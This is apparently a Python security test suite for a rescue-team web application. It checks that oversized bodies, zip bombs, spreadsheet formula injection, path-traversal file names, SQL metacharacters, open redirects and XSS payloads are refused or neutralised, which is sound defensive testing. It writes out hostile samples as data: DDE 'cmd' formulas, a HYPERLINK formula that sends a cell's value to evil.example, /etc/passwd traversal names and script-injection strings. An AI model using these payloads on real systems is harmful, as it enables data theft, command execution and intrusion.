"""Hostile input (issue 8, faults item 5): oversized and deeply nested bodies, formula cells in spreadsheets, path
traversal in file names, SQL metacharacters in every filter. Each answer is a 4xx (or a correct result), never a 5xx,
and a refused request writes nothing.

The tables are walked from the app's own routes and OpenAPI schema, so a new upload, list filter or request body is
covered without editing this file.
"""

from __future__ import annotations

import csv
import io
import json
import types
import typing
from pathlib import Path

from litestar.enums import RequestEncodingType
from litestar.routes import HTTPRoute
from openpyxl import Workbook, load_workbook
from pydantic import BaseModel

from rescueops import spreadsheets, uploads
from rescueops.members.tables import Certificate, ImportBatch, Person
from rescueops.settings import get_settings
from rescueops.teams.tables import Team
from rescueops.training.tables import EnrolmentImport, Target
from rescueops.web.middleware import MAX_JSON_DEPTH
from tests.accounts.test_auth import csrf_from
from tests.conftest import bearer
from tests.factories import id_number, make_team, team_body
from tests.members.test_api import join, roster_rows, upload, xlsx
from tests.web.test_pages import sign_in

# What an attacker types into a filter: quotes, statement ends, comments, LIKE wildcards and the escape character
# (together, then as a classic injection), NUL, and text outside the Basic Multilingual Plane or written right to left.
METACHARACTERS = ["'\";--%_\\", "' OR '1'='1' --", "\x00", "😀𠀀\u202eافتح"]
# Text a spreadsheet would run as a formula (OWASP CSV injection), as people paste it into a roster.
FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"点我")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


def _handlers(app):
    for route in app.routes:
        if isinstance(route, HTTPRoute):
            for method, (handler, _) in route.route_handler_map.items():
                if method != "OPTIONS":
                    yield route, method, handler


def _filled(path: str, **values: str) -> str:
    """A route path with its parameters filled: ``{code:str}`` → values["code"] (or a placeholder)."""
    for name, kind in (part.strip("{}").split(":") for part in path.split("/") if part.startswith("{")):
        path = path.replace(f"{{{name}:{kind}}}", str(values.get(name, "1" if kind == "int" else "certificate")))
    return path


def _files_under(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*") if p.is_file()} if folder.exists() else set()


# --- oversized bodies and uploads ------------------------------------------------------------------------------


def _upload_routes(app) -> list[tuple[str, str, int]]:
    found = []
    for route, method, handler in _handlers(app):
        data = handler.parsed_fn_signature.parameters.get("data")
        if data is not None and getattr(data.kwarg_definition, "media_type", None) == RequestEncodingType.MULTI_PART:
            found.append((method, route.path, handler.resolve_request_max_body_size()))
    return found


async def test_every_upload_route_has_its_own_limit_and_refuses_more(app, client, make_user) -> None:
    """Each multipart route (API and pages) is limited to its file kind plus framing: one byte more is a 413 naming the
    limit, answered before any service runs, so no file, import batch or member appears."""
    routes = _upload_routes(app)
    assert len(routes) >= 8  # roster import, scans, equipment import, grading documents; API and pages each
    await make_team()
    _, token = await make_user("admin")
    await sign_in(client, make_user, "admin", unit="150000")
    csrf = csrf_from((await client.get("/teams/CF-WNT-01/import")).text)
    before = _files_under(get_settings().var_dir)
    for method, path, limit in routes:
        assert limit in (uploads.SPREADSHEET_REQUEST_MAX_BYTES, uploads.DOCUMENT_REQUEST_MAX_BYTES), path
        headers = bearer(token) if path.startswith("/api/") else {"x-csrftoken": csrf}
        filled = _filled(path, code="CF-WNT-01", kind="certificate")
        response = await client.request(method, filled, files={"file": ("big.xlsx", b"\0" * (limit + 1), "application/pdf")},
                                        headers=headers)
        assert response.status_code == 413, (path, response.status_code, response.text[:300])
        assert uploads.megabytes(limit) in response.text, path
    assert _files_under(get_settings().var_dir) == before
    assert await ImportBatch.count() == 0 and await Person.count() == 0
    assert await EnrolmentImport.count() == 0 and await Target.count() == 0


async def test_a_file_under_the_request_limit_but_over_its_own_is_refused_with_the_reason(client, make_user) -> None:
    await make_team()
    _, captain = await make_user("captain", team="CF-WNT-01")
    big = await upload(client, captain, b"x" * (uploads.SPREADSHEET_MAX_BYTES + 1), name="roster.csv")
    assert big.status_code == 422 and "larger than 5 MB" in big.json()["message"]
    pid = (await join(client, captain, seq=71))["id"]
    cert = (await client.post(f"/api/v1/members/{pid}/certificates", json={"type_code": "cpr_aed", "issued_on": "2025-01-01"},
                              headers=bearer(captain))).json()
    scan = f"/api/v1/members/{pid}/scans/certificate/{cert['id']}"
    too_big = await client.put(scan, files={"file": ("scan.pdf", b"%PDF-" + b"0" * uploads.DOCUMENT_MAX_BYTES, "application/pdf")},
                               headers=bearer(captain))
    assert too_big.status_code == 422 and too_big.json()["code"] == "bad_file_size"
    # A page saved as .png, or a program called a PDF: what the content is decides, not what the client says.
    for name, content, media in (("x.png", b"<html><script>alert(1)</script>", "image/png"), ("x.pdf", b"MZ\x90\x00", "application/pdf")):
        disguised = await client.put(scan, files={"file": (name, content, media)}, headers=bearer(captain))
        assert disguised.status_code == 422 and disguised.json()["code"] == "bad_file_type", name
    assert (await Certificate.select(Certificate.file_name).where(Certificate.id == cert["id"]).first())["file_name"] in ("", None)
    assert await ImportBatch.count() == 0


async def test_a_workbook_that_unpacks_past_its_limit_is_refused_before_it_is_read(client, make_user) -> None:
    """An .xlsx is a zip: a few kilobytes can hold a 10 MB sheet. The unpacked size is checked before openpyxl parses it."""
    import zipfile

    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (spreadsheets.MAX_UNPACKED_BYTES + 1))
    assert len(bomb.getvalue()) < 100_000
    await make_team()
    _, captain = await make_user("captain", team="CF-WNT-01")
    refused = await upload(client, captain, bomb.getvalue())
    assert refused.status_code == 422 and "unpacks to" in refused.json()["message"]
    assert await ImportBatch.count() == 0


async def test_oversized_json_and_form_bodies(client, make_user) -> None:
    _, supervisor = await make_user("league_supervisor", unit="150400")
    padded = team_body(base_address="乌" * (uploads.BODY_MAX_BYTES // 3 + 1))  # UTF-8: three bytes each
    response = await client.post("/api/v1/teams", json=padded, headers=bearer(supervisor))
    assert response.status_code == 413 and response.json()["code"] == "payload_too_large"
    assert "1 MB" in response.json()["message"]
    # A streamed body with no Content-Length is counted as it arrives.
    async def chunks():
        for _ in range(12):
            yield b" " * (100 * 1024)
    streamed = await client.post("/api/v1/teams", content=chunks(), headers={**bearer(supervisor), "content-type": "application/json"})
    assert streamed.status_code == 413
    await sign_in(client, make_user)
    token = csrf_from((await client.get("/teams/new")).text)
    form = await client.post("/teams/new", data={"_csrf_token": token, **team_body(base_address="x" * (uploads.BODY_MAX_BYTES + 1))})
    assert form.status_code == 413 and "请求未被接受" in form.text
    assert await Team.count() == 0


async def test_oversized_training_bodies_are_refused_and_nothing_is_written(client, make_user) -> None:
    """A session, a trainee, a booking, a revocation reason of over 1 MB: 413 before any service runs (the API and the
    session form alike), and no session, person, booking or audit entry appears."""
    from rescueops.accounts.tables import AuditEntry
    from rescueops.training.tables import Booking, TrainingSession

    _, admin = await make_user("admin")
    big = "救" * (uploads.BODY_MAX_BYTES // 3 + 1)
    for path, body in (("/api/v1/training/sessions", {"course_code": "first_aider", "unit_code": "150426", "place": "礼堂", "title": big,
                                                       "starts_on": "2025-06-01", "ends_on": "2025-06-01", "capacity": 10}),
                       ("/api/v1/training/sessions/TR-150426-2025-0001/enrolments", {"name": big, "gender": "male", "id_number": id_number(1)}),
                       ("/api/v1/training/bases/CF-BASE-1/bookings", {"group_name": big}),
                       ("/api/v1/training/certificates/JH150426250000017/revocation", {"reason": big})):
        response = await client.post(path, json=body, headers=bearer(admin))
        assert response.status_code == 413 and response.json()["code"] == "payload_too_large", (path, response.text[:200])
    await sign_in(client, make_user, "admin", unit="150000")
    token = csrf_from((await client.get("/training/sessions/new")).text)
    form = await client.post("/training/sessions/new", data={"_csrf_token": token, "course_code": "first_aider", "unit_code": "150426",
                                                             "title": "x" * (uploads.BODY_MAX_BYTES + 1)})
    assert form.status_code == 413 and "请求未被接受" in form.text
    assert await TrainingSession.count() == 0 and await Person.count() == 0 and await Booking.count() == 0
    assert await AuditEntry.count().where(AuditEntry.action.like("training.%")) == 0


# --- deeply nested and huge JSON -----------------------------------------------------------------------------------


async def test_deeply_nested_json_is_a_400(client, make_user) -> None:
    _, admin = await make_user("admin")
    json_headers = {**bearer(admin), "content-type": "application/json"}
    bodies = {
        "10,000 nested arrays": "[" * 10_000 + "]" * 10_000,
        "10,000 nested objects": '{"a":' * 10_000 + "1" + "}" * 10_000,
        "just past the limit": json.dumps(team_body(specialties=[[["x"]]]))[:-1] + ', "extra": ' + "[" * MAX_JSON_DEPTH + "]" * MAX_JSON_DEPTH + "}",
    }
    for path in ("/api/v1/teams", "/api/v1/equipment/labels", "/api/v1/grading/rubrics/water_rescue"):
        method = "PUT" if "rubrics" in path else "POST"
        for what, body in bodies.items():
            response = await client.request(method, path, content=body, headers=json_headers)
            assert response.status_code == 400, (path, what, response.text[:200])
            assert response.json()["code"] == "malformed_body"
    # Within the limit a nested value reaches the schema, which names the field.
    nested = await client.put("/api/v1/grading/rubrics/water_rescue", headers=bearer(admin),
                              json={"reason": "试一试", "changes": [{"criterion_id": "members_l3", "params": {"min": [[[[1]]]]}}]})
    assert nested.status_code == 422, nested.text
    assert await Team.count() == 0


def _list_fields(model: type[BaseModel], seen: set[type]) -> typing.Iterator[tuple[str, bool]]:
    """(model.field, has a maximum length) for every list field of a request model and the models inside it."""
    if model in seen:
        return
    seen.add(model)
    for name, field in model.model_fields.items():
        for annotation, metadata in _annotations(field.annotation, list(field.metadata)):
            origin = typing.get_origin(annotation)
            if origin in (list, set, tuple):
                yield f"{model.__name__}.{name}", any(getattr(m, "max_length", None) for m in metadata)
            for arg in (typing.get_args(annotation) or (annotation,)):
                if isinstance(arg, type) and issubclass(arg, BaseModel):
                    yield from _list_fields(arg, seen)


def _annotations(annotation, metadata: list) -> typing.Iterator[tuple[object, list]]:
    """An annotation and the constraints on it, with ``X | None`` and ``Annotated[X, …]`` unwrapped."""
    if typing.get_origin(annotation) is typing.Annotated:
        inner, *extra = typing.get_args(annotation)
        yield from _annotations(inner, metadata + [c for e in extra for c in getattr(e, "metadata", [e])])
    elif typing.get_origin(annotation) in (typing.Union, types.UnionType):
        for arg in typing.get_args(annotation):
            if arg is not type(None):
                yield from _annotations(arg, metadata)
    else:
        yield annotation, metadata


def test_every_list_in_a_request_body_is_bounded(app) -> None:
    """A body of 1 MB still holds half a million small numbers; each list a client sends has a maximum length, so no request
    turns into a query with more parameters than the database takes, or a loop over a million items."""
    unbounded, seen = set(), set()
    for _, _, handler in _handlers(app):
        data = handler.parsed_fn_signature.parameters.get("data")
        if data is not None and isinstance(data.annotation, type) and issubclass(data.annotation, BaseModel):
            unbounded |= {name for name, bounded in _list_fields(data.annotation, seen) if not bounded}
    assert seen and unbounded == set()


async def test_huge_arrays_are_refused_by_the_schema(client, make_user) -> None:
    await make_team(members=3, leaders=True)
    _, admin = await make_user("admin")
    h = bearer(admin)
    cases = [
        ("/api/v1/teams", "specialties", team_body("CF-WNT-02", specialties=["medical"] * 100_000)),
        ("/api/v1/teams/CF-WNT-01/filings", "deputy_ids", {"captain_id": 1, "deputy_ids": [7] * 150_000, "reason": "全部"}),
        ("/api/v1/equipment/labels", "asset_tags", {"asset_tags": ["A"] * 150_000}),
        ("/api/v1/equipment/transfer-requests", "asset_tags", {"source": {"team_code": "CF-WNT-01"}, "destination": {"team_code": "CF-WNT-01"},
                                                               "asset_tags": ["A"] * 100_000, "reason": "调拨"}),
        ("PUT /api/v1/training/sessions/TR-150426-2025-0001/attendance", "entries",
         {"day": "2025-06-01", "entries": [{"enrolment_id": 1, "hours": "8"}] * 3_000}),
        ("PUT /api/v1/training/sessions/TR-150426-2025-0001/exam/sittings/1/scores", "scores",
         {"scores": [{"enrolment_id": 1, "theory": 90, "practical": 90}] * 3_000}),
    ]
    for path, field, body in cases:
        method, path = path.split(" ", 1) if " " in path else ("POST", path)
        response = await client.request(method, path, json=body, headers=h)
        assert response.status_code == 422 and response.json()["details"][0]["field"] == field, (path, response.text[:200])
    assert await Team.count() == 1


# --- formulas in spreadsheets -------------------------------------------------------------------------------------


def _csv(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8")


def _no_formula(cells: typing.Iterable[object], where: str) -> None:
    for value in cells:
        assert not (isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r"))), (where, value)


def test_export_cells_are_neutralised() -> None:
    for text in [*FORMULAS, "\t=1+1", "\r=1+1", "=1+1"]:
        assert spreadsheets.export_cell(text) == "'" + text
    assert spreadsheets.export_cell("巴特尔") == "巴特尔" and spreadsheets.export_cell(-5) == -5 and spreadsheets.export_cell(None) is None
    assert spreadsheets.export_cell("a\x00b\x07c\td") == "abc\td"  # a workbook cannot hold control characters


async def test_formula_cells_are_stored_as_text_and_every_export_neutralises_them(client, make_user) -> None:
    """A roster with formulas in its cells imports them as the text typed; the roster export (.xlsx and .csv) and the
    readiness workbook then prefix every cell that would start a formula, per OWASP, so opening the file runs nothing."""
    from rescueops.grading import service as grading

    await make_team(active=True)
    await Team.update({Team.name_zh: FORMULAS[1]}).where(Team.code == "CF-WNT-01")
    _, captain = await make_user("captain", team="CF-WNT-01")
    header = ["姓名*", "性别*", "身份证号*", "紧急联系人", "技能", "红十字会员号"]
    rows = [[FORMULAS[i], "男", id_number(300 + i), FORMULAS[(i + 1) % 5][:50], FORMULAS[(i + 2) % 5], f"-{i}+{i}"] for i in range(5)]
    checked = await upload(client, captain, _csv([header, *rows]), name="名册.csv")
    assert checked.status_code == 200 and checked.json()["valid_rows"] == 5, checked.text
    committed = await client.post(f"/api/v1/teams/CF-WNT-01/roster/import/{checked.json()['batch_id']}/commit", headers=bearer(captain))
    assert committed.status_code == 200, committed.text
    stored = await Person.select(Person.name, Person.skills, Person.emergency_contact).order_by(Person.id)
    assert [p["name"] for p in stored] == FORMULAS and stored[0]["skills"] == FORMULAS[2]

    as_csv = await client.get("/api/v1/teams/CF-WNT-01/roster/export?format=csv", headers=bearer(captain))
    table = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    _no_formula((cell for row in table for cell in row), "roster.csv")
    assert {row[0] for row in table[1:]} == {"'" + f for f in FORMULAS}
    as_xlsx = await client.get("/api/v1/teams/CF-WNT-01/roster/export?format=xlsx", headers=bearer(captain))
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    _no_formula((cell.value for row in sheet.iter_rows() for cell in row), "roster.xlsx")

    await grading.refresh_readiness()
    _, supervisor = await make_user("league_supervisor", unit="150400")
    readiness = await client.get("/api/v1/grading/dashboard.xlsx", headers=bearer(supervisor))
    assert readiness.status_code == 200
    book = load_workbook(io.BytesIO(readiness.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert "'" + FORMULAS[1] in {cell.value for cell in cells}
    assert all(cell.data_type != "f" for cell in cells)
    _no_formula((cell.value for cell in cells), "readiness.xlsx")


async def test_formula_cells_of_a_workbook_are_read_as_values_never_evaluated(client, make_user) -> None:
    """In an .xlsx, a text cell holding "=cmd|…" is text; a real formula cell is read as the value Excel last computed
    (none here: the row is reported, not imported as a formula)."""
    await make_team()
    _, captain = await make_user("captain", team="CF-WNT-01")
    book = Workbook()
    book.active.append(["姓名*", "性别*", "身份证号*", "技能"])
    book.active.append(["巴特尔", "男", id_number(401), None])
    book.active["D2"].value, book.active["D2"].data_type = FORMULAS[1], "s"  # text that looks like a formula
    book.active.append(['=HYPERLINK("http://evil.example","x")', "男", id_number(402), None])  # a formula cell
    buffer = io.BytesIO()
    book.save(buffer)
    checked = (await upload(client, captain, buffer.getvalue())).json()
    assert checked["valid_rows"] == 1 and [e["row"] for e in checked["errors"]] == [3]
    await client.post(f"/api/v1/teams/CF-WNT-01/roster/import/{checked['batch_id']}/commit?valid_only=true", headers=bearer(captain))
    assert [(p["name"], p["skills"]) for p in await Person.select(Person.name, Person.skills)] == [("巴特尔", FORMULAS[1])]


async def test_formulas_typed_into_training_records_come_out_of_every_training_export_as_text(client, make_user) -> None:
    """Trainees, an instructor, an examiner, an organisation, a base, a booking and a target line whose names begin with
    a formula: the class list, attendance sheet, exam results, session list, certificate list, instructor and examiner
    lists, bases, bookings, targets and progress workbooks hold them as text with the OWASP prefix, never a formula."""
    from tests.reliability.test_scope_probing import UNIT, _training

    _, admin = await make_user("admin")
    w: dict = {}
    formula = FORMULAS[0]
    await _training(client, admin, w, text=formula)
    api, code = "/api/v1/training", w["session"]
    expected = {
        f"sessions/{code}/class.xlsx": f"{formula}学员0", f"sessions/{code}/attendance.xlsx": f"{formula}学员1",
        f"sessions/{code}/exam/results.xlsx": f"{formula}学员2", "sessions/export.xlsx": f"{formula}教师初级救护员培训",
        "certificates.xlsx": f"{formula}学员0", "instructors.xlsx": f"{formula}教员", "examiners.xlsx": f"{formula}考官",
        "bases.xlsx": f"{formula}生命安全体验馆", f"bookings.xlsx?base={w['base']}": f"{formula}参观团",
        f"targets/export.xlsx?unit={UNIT}&year={w['year']}": f"{formula}东胜区第一中学",
        f"progress/export.xlsx?unit={UNIT}&year={w['year']}": f"{formula}东胜区第一中学",
        f"sessions/{code}/instructors.xlsx": f"{formula}教员", f"instructors/{w['instructor']}/export.xlsx": f"{formula}教员",
        f"organisations.xlsx?unit={UNIT}": f"{formula}东胜区第一中学",
    }
    for path, typed in expected.items():
        response = await client.get(f"{api}/{path}", headers=bearer(admin))
        assert response.status_code == 200, (path, response.text[:300])
        cells = [cell for sheet in load_workbook(io.BytesIO(response.content)).worksheets for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells), path
        _no_formula((cell.value for cell in cells), path)
        assert "'" + typed in {cell.value for cell in cells}, (path, typed)


# --- file names ------------------------------------------------------------------------------------------------------

HOSTILE_NAMES = ["../../../../etc/passwd.csv", "/etc/passwd.csv", "..\\..\\windows\\win.ini.csv", "C:\\boot.csv", "a\x00b.csv",
                 "CON.csv", "nul.csv", "名册\r\nSet-Cookie: x=1.csv", '"; filename="evil.exe.csv', "....csv"]


def test_display_names_are_safe() -> None:
    for name in HOSTILE_NAMES:
        shown = uploads.display_name(name, "roster")
        assert not set(shown) & set('/\\\x00\r\n:"<>|?*'), (name, shown)
        assert not shown.startswith(".") and shown.endswith(".csv") and shown.split(".")[0].lower() not in ("con", "nul"), (name, shown)
    assert uploads.display_name("../../名册 2026.xlsx", "roster") == "名册 2026.xlsx"
    assert uploads.display_name("", "roster") == uploads.display_name("../", "roster") == "roster"
    assert uploads.display_name("..", "roster") == "_.."


async def test_file_names_from_clients_never_become_paths(client, make_user) -> None:
    """Upload names with traversal, absolute paths, NUL and Windows device names: the kept name is sanitised, files
    are written only inside the upload folder under server-made names, and downloads name themselves safely."""
    await make_team()
    _, captain = await make_user("captain", team="CF-WNT-01")
    var = get_settings().var_dir
    before = _files_under(var)
    for number, name in enumerate(HOSTILE_NAMES):
        response = await upload(client, captain, xlsx(roster_rows(1, start=500 + number)), name=name.replace(".csv", ".xlsx"))
        assert response.status_code == 200, (name, response.text[:200])
        shown = response.json()["file_name"]
        assert not set(shown) & set('/\\\x00\r\n:"'), (name, shown)
    kept = [row["file_name"] for row in await ImportBatch.select(ImportBatch.file_name)]
    assert len(kept) == len(HOSTILE_NAMES) and not any(set(n) & set('/\\\x00\r\n') for n in kept)
    pid = (await join(client, captain, seq=81))["id"]
    cert = (await client.post(f"/api/v1/members/{pid}/certificates", json={"type_code": "cpr_aed", "issued_on": "2025-01-01"},
                              headers=bearer(captain))).json()
    scan = f"/api/v1/members/{pid}/scans/certificate/{cert['id']}"
    stored = await client.put(scan, files={"file": ("../../../../tmp/owned.pdf", b"%PDF-1.4 scan", "application/pdf")},
                              headers=bearer(captain))
    assert stored.status_code == 204
    written = _files_under(var) - before
    assert written and all(path.parent == var / "uploads" and path.name.startswith(f"certificate-{cert['id']}-") for path in written)
    assert not Path("/tmp/owned.pdf").exists()
    download = await client.get(scan, headers=bearer(captain))
    assert download.headers["content-disposition"] == f"attachment; filename=\"certificate-{cert['id']}.pdf\"; " \
                                                      f"filename*=UTF-8''certificate-{cert['id']}.pdf"
    assert download.headers["x-content-type-options"] == "nosniff"


async def test_hostile_file_names_of_trainee_lists_and_target_tables_are_kept_sanitised(client, make_user) -> None:
    """The trainee-list and allocation-table uploads keep (and report) only the sanitised name; nothing is written to
    disk, whatever the name says."""
    from tests.reliability.test_scope_probing import UNIT, _csv, _training

    _, admin = await make_user("admin")
    w: dict = {}
    await _training(client, admin, w)
    var = get_settings().var_dir
    before, kept_before = _files_under(var), await EnrolmentImport.count()
    trainees = _csv([["姓名*", "性别*", "身份证号*"], ["新学员", "男", id_number(760)]])
    table = _csv([["单位", "持证培训总数", "初级救护员", "普及培训"], ["教育局", 10, 5, 100]])
    for name in HOSTILE_NAMES:
        for path, content, data in ((f"/api/v1/training/sessions/{w['session']}/enrolments/import", trainees, None),
                                    ("/api/v1/training/targets/import", table, {"unit": UNIT, "year": str(w["year"])})):
            response = await client.post(path, files={"file": (name, content, "text/csv")}, data=data, headers=bearer(admin))
            assert response.status_code == 200, (name, path, response.text[:300])
            shown = response.json()["file_name"]
            assert not set(shown) & set('/\\\x00\r\n:"<>|?*') and not shown.startswith("."), (name, shown)
    kept = [row["file_name"] for row in await EnrolmentImport.select(EnrolmentImport.file_name)]
    assert len(kept) == kept_before + len(HOSTILE_NAMES) and not any(set(n) & set('/\\\x00\r\n') for n in kept)
    assert _files_under(var) == before


def test_content_disposition_cannot_be_broken_out_of() -> None:
    for name in [*HOSTILE_NAMES, "队员名册 2026.xlsx", "a;b=c.xlsx"]:
        header = uploads.attachment(b"", name, "text/csv").headers["Content-Disposition"]
        assert "\r" not in header and "\n" not in header and "\x00" not in header
        fallback = header.split('filename="', 1)[1].split('"', 1)[0]
        assert header.startswith("attachment; filename=\"") and header.count('"') == 2 and fallback.isascii(), header
        encoded = header.split("filename*=UTF-8''", 1)[1]
        assert all(c.isalnum() or c in "%-._~" for c in encoded), header


# --- SQL metacharacters in every filter -------------------------------------------------------------------------


async def _filter_world(make_user) -> dict[str, str]:
    from rescueops.equipment import service as equipment
    from rescueops.equipment.schemas import ItemIn
    from rescueops.teams import service as teams
    from rescueops.teams.schemas import TeamCreate

    await make_team(members=2)
    for code, name in (("CF-WNT-02", "救援%队"), ("CF-WNT-03", "救援_队"), ("CF-WNT-04", "救援\\队"), ("CF-WNT-05", "救援队甲")):
        await teams.create_team(None, TeamCreate(**team_body(code, name_zh=name, name_en="")))
    for tag, serial in (("CF-P-1", "SN%1"), ("CF-P-2", "SN_1"), ("CF-P-3", "SN\\1"), ("CF-P-4", "SN11")):
        await equipment.register_item(None, ItemIn(team_code="CF-WNT-01", asset_tag=tag, type_code="radio", serial_number=serial))
    from rescueops.accounts.tables import User

    _, admin = await make_user("admin", username="filter-admin")
    for username, display in (("zhang-pct", "张%三"), ("zhang-plain", "张三")):
        user_id, _ = await make_user("member", username=username)
        await User.update({User.display_name: display}).where(User.id == user_id)
    return {"admin": admin}


async def test_like_wildcards_in_text_search_match_literally(client, make_user) -> None:
    h = bearer((await _filter_world(make_user))["admin"])
    for q, team in (("%", "CF-WNT-02"), ("_", "CF-WNT-03"), ("\\", "CF-WNT-04"), ("救援队甲", "CF-WNT-05")):
        found = (await client.get("/api/v1/teams", params={"q": q}, headers=h)).json()
        assert [t["code"] for t in found["items"]] == [team], q
    for q, tag in (("SN%", "CF-P-1"), ("SN_", "CF-P-2"), ("N\\", "CF-P-3")):
        found = (await client.get("/api/v1/equipment/items", params={"q": q}, headers=h)).json()
        assert [i["asset_tag"] for i in found["items"]] == [tag], q
    users = (await client.get("/api/v1/users", params={"q": "张%"}, headers=h)).json()
    assert [u["username"] for u in users["items"]] == ["zhang-pct"]
    assert (await client.get("/api/v1/orgs/units", params={"q": "%"}, headers=h)).json()["total"] == 0
    for q in ("'", "' OR '1'='1' --", "%' UNION SELECT 1 --"):
        assert (await client.get("/api/v1/teams", params={"q": q}, headers=h)).json()["total"] == 0, q


async def test_like_wildcards_in_the_certificate_search_match_literally(client, make_user) -> None:
    """The certificate search takes a number's beginning or a holder's full name: a wildcard, quote or backslash is
    neither, and finds nothing."""
    from tests.reliability.test_scope_probing import _training

    _, admin = await make_user("admin")
    w: dict = {}
    await _training(client, admin, w)
    number = w["certificate_number"]

    async def found(q: str) -> list[str]:
        answer = await client.get("/api/v1/training/certificates", params={"q": q}, headers=bearer(admin))
        assert answer.status_code == 200, (q, answer.text[:200])
        return [c["number"] for c in answer.json()["items"]]

    for q in ("_", "%", "C_", number[:2] + "%", number[:4] + "_", "\\", "' OR '1'='1' --", "%' UNION SELECT 1 --"):
        assert await found(q) == [], q
    assert number in await found(number[:6].lower()) and await found(w["holder"]) == [number]


async def test_sql_metacharacters_in_every_filter_of_every_list_endpoint(app, client, make_user) -> None:
    """Every query parameter of every GET route of the API, and every text path parameter, given each metacharacter:
    a 4xx or an answer, never a 5xx (in particular NUL, which PostgreSQL refuses in text, is a 422)."""
    from tests.reliability.test_scope_probing import _training

    world = await _filter_world(make_user)
    h = bearer(world["admin"])
    training: dict = {}
    await _training(client, world["admin"], training)  # real training records, so each filter reaches its query
    schema = app.openapi_schema.to_schema()
    asked = 0
    for path, item in schema["paths"].items():
        operation = item.get("get")
        if not path.startswith("/api/") or operation is None:
            continue
        parameters = operation.get("parameters", [])
        base = path
        for parameter in parameters:
            if parameter["in"] == "path":
                base = base.replace(f"{{{parameter['name']}}}", _path_value(path, parameter, training))
        for parameter in parameters:
            for value in METACHARACTERS:
                if parameter["in"] == "query":
                    response = await client.get(base, params={parameter["name"]: value}, headers=h)
                elif parameter["schema"].get("type") == "string":
                    response = await client.get(path.replace(f"{{{parameter['name']}}}", _path_text(value)), headers=h)
                else:
                    continue
                asked += 1
                assert response.status_code < 500, (path, parameter["name"], value, response.status_code, response.text[:300])
    assert asked > 300


# Path parameters naming training records: the record of the training world, so the route's filters are reached.
_TRAINING_PATHS = {("/api/v1/training/sessions/", "code"): "session", ("/api/v1/training/bases/", "code"): "base",
                   ("/api/v1/training/certificates/", "number"): "certificate_number", ("/api/v1/public/certificates/", "token"): "verify_token",
                   ("/api/v1/training/instructors/", "instructor_id"): "instructor", ("/api/v1/training/examiners/", "examiner_id"): "examiner",
                   ("/api/v1/training/bookings/", "booking_id"): "booking"}


def _path_value(path: str, parameter: dict, training: dict) -> str:
    for (prefix, name), key in _TRAINING_PATHS.items():
        if path.startswith(prefix) and parameter["name"] == name:
            return str(training[key])
    return "CF-WNT-01" if parameter["schema"].get("type") == "string" else "1"


def _path_text(value: str) -> str:
    from urllib.parse import quote

    return quote(value, safe="")


async def test_form_values_cannot_inject_headers_or_redirect_off_site(client) -> None:
    """The language switch redirects to a form value: control characters are encoded, never a header break, and the
    target stays on this site."""
    token = csrf_from((await client.get("/login")).text)
    for target in ("/\r\nSet-Cookie: injected=1", "/\t/evil.example/", "/\n/evil.example", "//evil.example", "/\\evil.example",
                   "javascript:alert(1)", "https://evil.example/"):
        response = await client.post("/locale", data={"_csrf_token": token, "locale": "en", "next": target}, follow_redirects=False)
        location = response.headers["location"]
        assert response.status_code in (302, 303) and "injected" not in str(response.headers.get_list("set-cookie")), target
        assert location.startswith("/") and not location.startswith("//") and location.isprintable() and " " not in location, target


# --- Markdown reports ----------------------------------------------------------------------------------------------

# Script in the forms a page or a Markdown viewer would run: raw HTML, an attribute break-out, a javascript: link.
XSS = ["<img src=x onerror=window.__xss=1>", '"><script>window.__xss=1</script>', "[点我](javascript:window.__xss=1)",
       "<a href='javascript:window.__xss=1'>x</a>", "![x](javascript:window.__xss=1)", "<javascript:window.__xss=1>"]
_REPORT_TAGS = {"h1", "h2", "p", "ul", "li", "strong", "hr", "br", "table", "thead", "tbody", "tr", "th", "td"}


def _rendered_markup(markdown: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    """The tags and attributes a CommonMark viewer with tables (raw HTML allowed, as in most) makes of the text."""
    from html.parser import HTMLParser

    from markdown_it import MarkdownIt

    found = []

    class Tags(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, attrs))

    Tags().feed(MarkdownIt("commonmark").enable("table").render(markdown))
    return found


def test_what_people_typed_stays_text_in_the_markdown_reports() -> None:
    from rescueops import markdown as md

    for payload in XSS:
        rendered = _rendered_markup("\n".join([f"# 标题：{md.text(payload)}", md.item(f"**事件**：{md.text(payload)}"), "",
                                               *md.table(["内容"], [[payload]]), "", md.text(payload)]))
        assert {tag for tag, _ in rendered} <= _REPORT_TAGS and all(not attrs for _, attrs in rendered), (payload, rendered)


async def test_the_deployment_report_keeps_hostile_text_as_text(client, make_user) -> None:
    from tests.deployments.helpers import TEAM, close, dispatch, log, open_incident, step

    team = await make_team(members=2)
    _, captain = await make_user("captain", team=TEAM)
    incident = await open_incident(client, captain, title=XSS[0], place=XSS[1][:100], requesting_authority=XSS[2])
    did = (await dispatch(client, captain, incident["id"], person_ids=team["people"]))["id"]
    for status in ("mobilising", "on_scene", "demobilising"):
        assert (await step(client, captain, did, status, note=XSS[3])).status_code == 200
    for kind, payload in zip(("hazard", "note", "resource_request", "task"), XSS[2:], strict=False):
        assert (await log(client, captain, did, kind, text=payload, count=1 if kind == "resource_request" else None)).status_code == 201
    await close(client, captain, did, note="\n".join(XSS))
    report = await client.get(f"/api/v1/deployments/{did}/report.md", headers=bearer(captain))
    assert report.status_code == 200 and "window.\\_\\_xss" in report.text
    rendered = _rendered_markup(report.text)
    assert {tag for tag, _ in rendered} <= _REPORT_TAGS and all(not attrs for _, attrs in rendered), rendered
